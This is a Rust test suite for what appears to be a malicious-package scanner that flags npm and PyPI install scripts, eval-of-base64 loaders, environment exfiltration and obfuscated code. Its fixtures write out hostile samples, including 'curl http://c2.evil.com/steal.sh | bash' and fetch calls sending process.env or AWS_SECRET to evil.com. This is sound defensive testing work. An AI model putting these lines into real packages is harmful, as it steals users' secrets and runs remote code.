use gard::config::Config;
use gard::tier3_analyzer::{
    analyze, count_hex_escapes, file_obfuscation_score, is_minified, is_source_file,
    run_analysis, scan_install_scripts, scan_source_files, score_obfuscation,
    source_extensions, PackageFiles, Severity, SourceFile,
};
use gard::types::{Ecosystem, TierResult};

fn cfg() -> Config {
    Config::default()
}

fn file(path: &str, content: &str) -> SourceFile {
    SourceFile { path: path.to_string(), size: content.len() as u64, content: content.to_string() }
}

fn package(package_json: Option<&str>, sources: Vec<SourceFile>) -> PackageFiles {
    PackageFiles { package_json: package_json.map(|s| s.to_string()), sources }
}

#[test]
fn clean_script_no_findings() {
    let pj = r#"{"scripts":{"postinstall":"echo done"}}"#;
    assert!(scan_install_scripts(Some(pj), &Ecosystem::Npm).is_empty());
}

#[test]
fn network_in_postinstall_is_critical() {
    let pj = r#"{"scripts":{"postinstall":"node -e \"require('https').get('http://evil.com')\""}}"#;
    let f = scan_install_scripts(Some(pj), &Ecosystem::Npm);
    assert!(!f.is_empty());
    assert_eq!(f[0].severity, Severity::Critical);
}

#[test]
fn curl_pipe_bash_is_critical() {
    let pj = r#"{"scripts":{"postinstall":"curl http://evil.com/steal.sh | bash"}}"#;
    let f = scan_install_scripts(Some(pj), &Ecosystem::Npm);
    assert!(!f.is_empty());
    assert_eq!(f[0].severity, Severity::Critical);
}

#[test]
fn install_scripts_in_order_of_keys() {
    let pj = r#"{"scripts":{"postinstall":"curl x | sh","preinstall":"wget y","test":"curl z | sh"}}"#;
    let f = scan_install_scripts(Some(pj), &Ecosystem::Npm);
    assert_eq!(f.len(), 2);
    assert!(f.iter().all(|x| x.file == "package.json" && x.line == 0));
    assert_eq!(f[0].label, "shell execution in install script");
    // not npm, not JSON, no scripts: nothing
    assert!(scan_install_scripts(Some(pj), &Ecosystem::PyPI).is_empty());
    assert!(scan_install_scripts(Some("not json"), &Ecosystem::Npm).is_empty());
    assert!(scan_install_scripts(None, &Ecosystem::Npm).is_empty());
    assert!(scan_install_scripts(Some(r#"{"scripts":{"install":7}}"#), &Ecosystem::Npm).is_empty());
}

#[test]
fn eval_base64_is_critical() {
    let files = vec![file("index.js", r#"eval(Buffer.from(payload, 'base64').toString())"#)];
    let f = scan_source_files(&files, &cfg());
    assert!(f.iter().any(|x| x.severity == Severity::Critical));
    assert_eq!(f[0].line, 1);
    assert_eq!(f[0].file, "index.js");
}

#[test]
fn clean_utility_no_findings() {
    let files = vec![file("index.js", r#"module.exports = (a, b) => a + b;"#)];
    assert!(scan_source_files(&files, &cfg()).is_empty());
}

#[test]
fn env_plus_fetch_combo_is_critical() {
    let files = vec![file(
        "steal.js",
        r#"
const data = JSON.stringify(process.env);
fetch('https://evil.com/collect', { method: 'POST', body: data });
"#,
    )];
    let f = scan_source_files(&files, &cfg());
    assert!(f.iter().any(|x| x.severity == Severity::Critical));
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].line, 0);
    assert_eq!(f[0].label, "env variables accessed and sent to external URL (same file)");
}

#[test]
fn env_alone_is_no_finding() {
    let files = vec![file("a.py", "import os\nkey = os.environ['HOME']\n")];
    assert!(scan_source_files(&files, &cfg()).is_empty());
}

#[test]
fn large_and_minified_files_are_skipped() {
    let evil = "eval(atob('x'))";
    let mut big = file("big.js", evil);
    big.size = 100 * 1024 + 1;
    assert!(scan_source_files(&vec![big], &cfg()).is_empty());
    let mut exact = file("exact.js", evil);
    exact.size = 100 * 1024;
    assert_eq!(scan_source_files(&vec![exact], &cfg()).len(), 1);
    let minified = format!("\n  \n{}{}", evil, " ".repeat(1000));
    assert!(scan_source_files(&vec![file("m.js", &minified)], &cfg()).is_empty());
    let mut keep = cfg();
    keep.tier3.skip_minified = false;
    assert_eq!(scan_source_files(&vec![file("m.js", &minified)], &keep).len(), 1);
}

#[test]
fn hex_var_names_score_high() {
    let content = "_0x1a _0x2b _0x3c _0x4d _0x5e _0x6f _0x7a _0x8b _0x9c _0xad _0xbe";
    assert!(file_obfuscation_score(content) >= 40);
}

#[test]
fn clean_code_scores_zero() {
    let content = "function add(a, b) { return a + b; }\nmodule.exports = { add };";
    assert_eq!(file_obfuscation_score(content), 0);
}

#[test]
fn obfuscation_points() {
    // 4 `_0x` names: 20
    assert_eq!(file_obfuscation_score("_0x _0x _0x _0x"), 20);
    // 11 escapes: 15
    assert_eq!(file_obfuscation_score(&"\\x41".repeat(11)), 15);
    // one long line out of one: 30
    assert_eq!(file_obfuscation_score(&"a".repeat(501)), 30);
    // one long line out of three: 15
    assert_eq!(file_obfuscation_score(&format!("{}\nb\nc", "a".repeat(501))), 15);
    // everything: capped at 100
    let all = format!("{}{}{}", "_0x".repeat(11), "\\x41".repeat(51), "a".repeat(600));
    assert_eq!(file_obfuscation_score(&all), 100);
}

#[test]
fn hex_escapes_counted_left_to_right() {
    assert_eq!(count_hex_escapes("\\x41\\x4g\\x42"), 2);
    assert_eq!(count_hex_escapes("\\x4"), 0);
    assert_eq!(count_hex_escapes("é\\xFFé"), 1);
    assert_eq!(count_hex_escapes(""), 0);
}

#[test]
fn minified_means_long_first_line() {
    assert!(!is_minified(""));
    assert!(!is_minified(&format!("short\n{}", "x".repeat(2000))));
    assert!(is_minified(&format!("   \n{}", "x".repeat(1001))));
    assert!(!is_minified(&"x".repeat(1000)));
    // 500 two-byte characters plus one: 1001 bytes
    assert!(is_minified(&format!("{}a", "é".repeat(500))));
}

#[test]
fn package_score_is_highest_file() {
    let files = vec![file("a.js", ""), file("b.js", "_0x _0x _0x _0x"), file("c.js", "ok")];
    assert_eq!(score_obfuscation(&files), 20);
    assert_eq!(score_obfuscation(&vec![]), 0);
}

#[test]
fn malicious_package_blocked() {
    let files = package(Some(r#"{"scripts":{"postinstall":"curl http://c2.evil.com/steal.sh | bash"}}"#), vec![]);
    let result = analyze(&files, &Ecosystem::Npm, &cfg());
    assert!(result.is_blocking(), "expected Block, got {result:?}");
    assert_eq!(
        result,
        TierResult::Block { reason: "malicious install script: shell execution in install script".to_string() }
    );
}

#[test]
fn clean_package_passes() {
    let files = package(
        Some(r#"{"name":"clean-util","version":"1.0.0"}"#),
        vec![file("index.js", r#"module.exports = s => s.trim();"#)],
    );
    let result = analyze(&files, &Ecosystem::Npm, &cfg());
    assert_eq!(result, TierResult::Pass);
}

#[test]
fn e2e_malicious_postinstall_blocks() {
    let files = package(
        Some(
            r#"{
        "name": "colo0rs",
        "scripts": { "postinstall": "curl http://c2.evil.com/steal.sh | bash" }
    }"#,
        ),
        vec![],
    );
    let result = analyze(&files, &Ecosystem::Npm, &Config::default());
    assert!(result.is_blocking(), "postinstall with curl|bash must block");
}

#[test]
fn e2e_eval_base64_in_source_warns() {
    let files = package(
        Some(r#"{"name":"obfuscated-pkg"}"#),
        vec![file("index.js", "eval(Buffer.from(payload,'base64').toString())\n")],
    );
    let result = analyze(&files, &Ecosystem::Npm, &Config::default());
    assert!(result.is_flagged(), "eval+base64 must at minimum warn");
    assert!(!matches!(result, TierResult::Pass), "eval+base64 must not pass");
    assert_eq!(result, TierResult::Warn { reason: "1 high-severity pattern(s) in source".to_string() });
}

#[test]
fn e2e_two_critical_patterns_block() {
    let files = package(
        Some(r#"{"name":"double-evil"}"#),
        vec![file(
            "index.js",
            "eval(Buffer.from(payload,'base64').toString())\n\
             require('child_process').exec('curl http://c2.evil.com | sh')\n",
        )],
    );
    let result = analyze(&files, &Ecosystem::Npm, &Config::default());
    assert!(result.is_blocking(), "two critical patterns must block");
    assert_eq!(result, TierResult::Block { reason: "2 critical patterns in source".to_string() });
}

#[test]
fn e2e_env_fetch_combo_warns() {
    let files = package(
        Some(r#"{"name":"exfil-pkg"}"#),
        vec![file("index.js", "const k=process.env.AWS_SECRET;\nfetch('https://evil.com/'+k);\n")],
    );
    let result = analyze(&files, &Ecosystem::Npm, &Config::default());
    assert!(result.is_flagged(), "env→fetch combo must at minimum warn");
}

#[test]
fn e2e_env_fetch_plus_extra_critical_blocks() {
    let files = package(
        Some(r#"{"name":"exfil-obfus"}"#),
        vec![file(
            "index.js",
            "const k = process.env.AWS_SECRET;\n\
             fetch('https://evil.com/' + k);\n\
             eval(Buffer.from(payload,'base64').toString())\n",
        )],
    );
    let result = analyze(&files, &Ecosystem::Npm, &Config::default());
    assert!(result.is_blocking(), "env+fetch+eval must block");
}

#[test]
fn e2e_clean_package_passes() {
    let files = package(
        Some(r#"{"name":"clean-utils"}"#),
        vec![file("index.js", "module.exports = { add: (a, b) => a + b };\n")],
    );
    let result = analyze(&files, &Ecosystem::Npm, &Config::default());
    assert!(!result.is_blocking(), "clean utility must not block");
    assert_eq!(result, TierResult::Pass);
}

#[test]
fn obfuscated_package_blocked_or_warned() {
    let all = format!("{}{}{}", "_0x".repeat(11), "\\x41".repeat(51), "a".repeat(600));
    let files = package(None, vec![file("o.js", &all)]);
    let result = analyze(&files, &Ecosystem::Npm, &cfg());
    assert_eq!(
        result,
        TierResult::Block { reason: "obfuscation score 100/100 ≥ block threshold 80".to_string() }
    );
    let some = format!("{}{}", "_0x".repeat(11), "\\x41".repeat(51));
    let files = package(None, vec![file("o.js", &some)]);
    assert_eq!(
        analyze(&files, &Ecosystem::Npm, &cfg()),
        TierResult::Warn { reason: "obfuscation score 70/100".to_string() }
    );
    let a = run_analysis(&files, &Ecosystem::Npm, &cfg());
    assert_eq!(a.obfuscation_score, 70);
    assert!(a.script_findings.is_empty() && a.source_findings.is_empty());
}

#[test]
fn python_subprocess_is_critical() {
    let files = vec![file("setup.py", "import subprocess\nsubprocess.run(['sh', '-c', 'id'])\n")];
    let f = scan_source_files(&files, &cfg());
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].line, 2);
    assert_eq!(f[0].label, "subprocess.run/call/Popen — shell execution");
}

#[test]
fn source_file_extensions() {
    assert_eq!(source_extensions(&Ecosystem::Npm), vec!["js", "mjs", "cjs"]);
    assert!(is_source_file("index.js", &Ecosystem::Npm));
    assert!(is_source_file("a.b.cjs", &Ecosystem::Npm));
    assert!(!is_source_file(".js", &Ecosystem::Npm));
    assert!(!is_source_file("js", &Ecosystem::Npm));
    assert!(!is_source_file("x.", &Ecosystem::Npm));
    assert!(!is_source_file("setup.py", &Ecosystem::Npm));
    assert!(is_source_file("setup.py", &Ecosystem::PyPI));
    assert!(is_source_file("lib.rs", &Ecosystem::Cargo));
    assert!(!is_source_file("package.json", &Ecosystem::Npm));
}
